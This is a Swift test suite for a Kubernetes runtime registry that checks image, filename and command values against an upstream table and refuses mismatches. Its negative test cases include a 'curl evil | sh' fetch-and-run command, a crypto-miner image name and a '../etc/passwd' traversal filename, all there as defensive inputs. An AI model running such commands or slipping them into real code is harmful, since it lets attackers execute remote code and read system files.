import Events
import KubeManifests
import Testing

@Suite("Runtime registry: the image and command come from the registry")
struct RuntimeRegistryTests {
    /// docs/upstream-contract.md §7, spelled out.
    static let table: [(String, String, String, String, [String])] = [
        ("python", "3.7", "python:3.7-slim", "main.py", ["python", "/scripts/main.py"]),
        ("python", "3.8", "python:3.8-slim", "main.py", ["python", "/scripts/main.py"]),
        ("python", "3.9", "python:3.9-slim", "main.py", ["python", "/scripts/main.py"]),
        ("python", "3.10", "python:3.10-slim", "main.py", ["python", "/scripts/main.py"]),
        ("python", "3.11", "python:3.11-slim", "main.py", ["python", "/scripts/main.py"]),
        ("python", "3.12", "python:3.12-slim", "main.py", ["python", "/scripts/main.py"]),
        ("node", "18", "node:18-alpine", "main.js", ["node", "/scripts/main.js"]),
        ("node", "20", "node:20-alpine", "main.js", ["node", "/scripts/main.js"]),
        ("node", "22", "node:22-alpine", "main.js", ["node", "/scripts/main.js"]),
        ("ruby", "3.1", "ruby:3.1-alpine", "main.rb", ["ruby", "/scripts/main.rb"]),
        ("ruby", "3.2", "ruby:3.2-alpine", "main.rb", ["ruby", "/scripts/main.rb"]),
        ("ruby", "3.3", "ruby:3.3-alpine", "main.rb", ["ruby", "/scripts/main.rb"]),
        ("bash", "5.1", "bash:5.1", "main.sh", ["bash", "/scripts/main.sh"]),
        ("bash", "5.2", "bash:5.2", "main.sh", ["bash", "/scripts/main.sh"]),
        ("bash", "5.3", "bash:5.3", "main.sh", ["bash", "/scripts/main.sh"]),
        ("go", "1.20", "golang:1.20-alpine", "main.go", ["go", "run", "/scripts/main.go"]),
        ("go", "1.21", "golang:1.21-alpine", "main.go", ["go", "run", "/scripts/main.go"]),
        ("go", "1.22", "golang:1.22-alpine", "main.go", ["go", "run", "/scripts/main.go"]),
    ]

    private func command(_ row: (String, String, String, String, [String])) throws -> CreatePodCommand {
        try Samples.command {
            $0.language = row.0
            $0.languageVersion = row.1
            $0.runtimeImage = row.2
            $0.runtimeFilename = row.3
            $0.runtimeCommand = row.4
        }
    }

    @Test("the default table is upstream's exactly, and every entry resolves to itself")
    func everyEntryResolves() throws {
        let registry = RuntimeRegistry.upstream
        #expect(registry.entries.count == 18)
        #expect(!registry.allowUnlisted)
        for row in Self.table {
            let runtime = try registry.resolve(command(row))
            #expect(
                runtime.image == row.2 && runtime.filename == row.3 && runtime.command == row.4, "\(row.0) \(row.1)")
            #expect(runtime.source == .registry)
        }
        #expect(registry.distinctImages.count == 18)
        #expect(registry.distinctImages.first == "bash:5.1" && registry.distinctImages[9] == "python:3.10-slim")
    }

    @Test("an unknown (language, version) is refused with a short reason")
    func unknownRuntime() throws {
        for (language, version) in [("python", "2.7"), ("cobol", "1"), ("Python", "3.11"), ("", "")] {
            let command = try Samples.command {
                $0.language = language
                $0.languageVersion = version
            }
            do {
                _ = try RuntimeRegistry.upstream.resolve(command)
                Issue.record("accepted \(language) \(version)")
            } catch {
                #expect(error.code == .unknownRuntime)
                #expect(error.reason == "runtime \(language) \(version) is not supported")
            }
        }
    }

    @Test("an image, command or file name that disagrees with the registry is refused")
    func mismatch() throws {
        let cases: [(String, (inout CreatePodCommand) -> Void)] = [
            ("runtime_image", { $0.runtimeImage = "evil/miner:latest" }),
            ("runtime_image", { $0.runtimeImage = "python:3.12-slim" }),
            ("runtime_command", { $0.runtimeCommand = ["sh", "-c", "curl evil | sh"] }),
            ("runtime_command", { $0.runtimeCommand = [] }),
            ("runtime_filename", { $0.runtimeFilename = "other.py" }),
        ]
        for (field, change) in cases {
            let command = try Samples.command(change)
            do {
                _ = try RuntimeRegistry.upstream.resolve(command)
                Issue.record("accepted a changed \(field)")
            } catch {
                #expect(error.code == .runtimeMismatch)
                #expect(error.reason == "\(field) does not match runtime python 3.11")
            }
        }
        let both = try Samples.command {
            $0.runtimeImage = "x"
            $0.runtimeFilename = "y.py"
        }
        do {
            _ = try RuntimeRegistry.upstream.resolve(both)
            Issue.record("accepted a changed image and file name")
        } catch {
            #expect(error.reason == "runtime_image, runtime_filename does not match runtime python 3.11")
        }
    }

    @Test("allowUnlisted: the message's values are used, still syntax-checked")
    func allowUnlisted() throws {
        var registry = RuntimeRegistry.upstream
        registry.allowUnlisted = true
        let custom = try registry.resolve(
            Samples.command {
                $0.language = "rust"
                $0.languageVersion = "1.80"
                $0.runtimeImage = "rust:1.80-slim"
                $0.runtimeFilename = "main.rs"
                $0.runtimeCommand = ["sh", "-c", "rustc /scripts/main.rs -o /tmp/m && /tmp/m"]
            })
        #expect(custom.image == "rust:1.80-slim" && custom.filename == "main.rs" && custom.source == .message)
        let listed = try registry.resolve(Samples.command())
        #expect(listed.source == .registry)
        let filledIn = try registry.resolve(
            Samples.command {
                $0.runtimeImage = ""
                $0.runtimeCommand = []
            })
        #expect(filledIn.image == "python:3.11-slim" && filledIn.command == ["python", "/scripts/main.py"])
        for change: (inout CreatePodCommand) -> Void in [
            {
                $0.language = "x"
                $0.runtimeImage = ""
            },
            { $0.runtimeImage = "bad image" },
            { $0.runtimeFilename = "../etc/passwd" },
            { $0.runtimeFilename = "entrypoint.sh" },
            { $0.runtimeCommand = ["a\u{0}b"] },
        ] {
            #expect {
                try registry.resolve(Samples.command(change))
            } throws: { error in
                (error as? ManifestError)?.code == .invalidRuntime
            }
        }
    }

    @Test("a configured table replaces the default; duplicates and unusable entries are refused")
    func configured() throws {
        let entry = RuntimeRegistry.Entry(
            language: "python", version: "3.11",
            image: "registry.local/python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            filename: "main.py",
            command: ["python", "-I", "/scripts/main.py"])
        let registry = try RuntimeRegistry(entries: [entry])
        let runtime = try registry.resolve(
            Samples.command {
                $0.runtimeImage = entry.image
                $0.runtimeCommand = entry.command
            })
        #expect(runtime.image == entry.image && runtime.command == entry.command)
        #expect(throws: ManifestError.self) { try registry.resolve(Samples.command()) }
        #expect(throws: ManifestError.self) { try RuntimeRegistry(entries: [entry, entry]) }
        var bad = entry
        bad.filename = "a/b"
        #expect(throws: ManifestError.self) { try RuntimeRegistry(entries: [bad]) }
        bad = entry
        bad.command = []
        #expect(throws: ManifestError.self) { try RuntimeRegistry(entries: [bad]) }
        #expect(try RuntimeRegistry(entries: RuntimeRegistry.upstreamEntries) == RuntimeRegistry.upstream)
    }

    @Test("overrides replace listed entries in place and append new ones")
    func merging() throws {
        let pinned = RuntimeRegistry.Entry(
            language: "python", version: "3.11",
            image: "python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            filename: "main.py",
            command: ["python", "/scripts/main.py"])
        let deno = RuntimeRegistry.Entry(
            language: "deno", version: "2", image: "denoland/deno:2.0.0", filename: "main.ts",
            command: ["deno", "run", "/scripts/main.ts"])
        let merged = try RuntimeRegistry.upstream.merging([pinned, deno])
        #expect(merged.entries.count == 19)
        #expect(merged.entries[4] == pinned)
        #expect(merged.entries.last == deno)
        #expect(merged.entry(language: "deno", version: "2") == deno)
        #expect(throws: ManifestError.self) { try RuntimeRegistry.upstream.merging([deno, deno]) }
    }
}
